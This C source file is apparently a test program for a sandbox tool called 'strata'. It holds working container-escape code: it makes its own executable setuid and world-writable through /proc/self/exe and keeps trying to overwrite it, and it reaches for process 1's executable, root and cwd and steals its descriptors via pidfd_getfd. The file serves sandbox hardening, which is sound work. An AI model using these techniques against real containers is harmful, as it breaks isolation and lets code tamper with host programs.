/*
 * breakout - the attempts of a hostile program in a sandbox to change the strata program outside.
 *
 *	breakout              run as the interpreter of "#!/proc/self/exe", or as the loader of the
 *	                      file behind that link: make the file that this process executes
 *	                      setuid, and writable for all users.  A child keeps a descriptor of
 *	                      the file, and writes to it when no process executes the file
 *	breakout holder FILE  do the same to the program of process 1, and take its descriptors,
 *	                      until this process is killed.  FILE gets a letter for each attempt
 *	                      that succeeded
 *
 * The program has no C library.  A program with a C library does not work as the loader of another
 * program.
 */
#include <asm/unistd.h>
#include <linux/fcntl.h>

#define TRIES 100
#define PAUSE_NS 10000000L
#define DESCRIPTORS 24

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall begin\n");

static long call(long nr, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = 0;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return result;
}
#elif defined(__aarch64__) || defined(__cppcheck__)
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tb begin\n");

static long call(long nr, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	register long x4 __asm__("x4") = 0;

	__asm__ volatile("svc #0"
			 : "+r"(x0)
			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4)
			 : "memory");
	return x0;
}
#endif

void begin(long *stack);

static const char hacked[] = "hacked";
static int found;

static void say(char what)
{
	char text[2] = { what, '\n' };

	(void)call(__NR_write, found, (long)text, 2, 0);
}

static long open_at(const char *path, long flags)
{
	return call(__NR_openat, AT_FDCWD, (long)path, flags, 0);
}

/* Open the file of a descriptor again, whatever has become of its path. */
static long open_again(long fd, long flags)
{
	char path[] = "/proc/self/fd/00";

	path[14] = (char)('0' + fd / 10);
	path[15] = (char)('0' + fd % 10);
	if (fd < 10) {
		path[14] = path[15];
		path[15] = '\0';
	}
	return open_at(path, flags);
}

static int spoil(long fd)
{
	long writable = open_again(fd, O_WRONLY);

	return writable >= 0 && call(__NR_write, writable, (long)hacked, sizeof(hacked) - 1, 0) > 0;
}

static void own_program(void)
{
	long pause[2] = { 0, PAUSE_NS };
	long fd = open_at("/proc/self/exe", O_RDONLY);

	(void)call(__NR_fchmod, fd, 06777, 0, 0);
	if (call(__NR_clone, 17 /* SIGCHLD */, 0, 0, 0) != 0)
		return;
	for (int i = 0; i < TRIES && !spoil(fd); i++)
		(void)call(__NR_nanosleep, (long)pause, 0, 0, 0);
}

/* Try accesses to the holder that must never succeed, not even while the holder ends. */
static void look_at_holder(long pidfd)
{
	long fd = open_at("/proc/1/exe", O_RDONLY);

	if (fd >= 0) {
		say('e');
		(void)call(__NR_fchmod, fd, 06777, 0, 0);
		(void)spoil(fd);
	}
	if (open_at("/proc/1/cwd", O_PATH) >= 0 || open_at("/proc/1/root", O_PATH) >= 0)
		say('r');
	for (int i = 0; i < DESCRIPTORS; i++)
		if (call(__NR_pidfd_getfd, pidfd, i, 0, 0) >= 0)
			say('d');
}

__attribute__((noreturn, used)) void begin(long *stack)
{
	char **argv = (char **)(stack + 1);

	if (stack[0] == 3) {
		found = (int)call(
			__NR_openat, AT_FDCWD, (long)argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
		say('.');
		for (long pidfd = call(__NR_pidfd_open, 1, 0, 0, 0);;)
			look_at_holder(pidfd);
	}
	own_program();
	for (;;)
		(void)call(__NR_exit_group, 0, 0, 0, 0);
}
